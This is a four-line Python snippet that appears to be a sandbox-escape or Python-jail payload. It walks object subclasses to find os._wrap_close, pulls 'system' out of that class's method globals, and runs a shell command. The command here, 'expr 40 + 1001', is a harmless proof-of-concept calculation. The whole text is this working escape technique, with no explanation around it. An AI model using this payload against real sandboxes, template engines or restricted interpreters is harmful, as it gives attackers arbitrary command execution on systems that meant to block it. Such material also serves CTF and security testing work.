import abc
x=type.__subclasses__(object)
w=[c for c in x if c.__name__=="_wrap_close"][0]
w.close.__globals__["system"]("expr 40 + 1001")
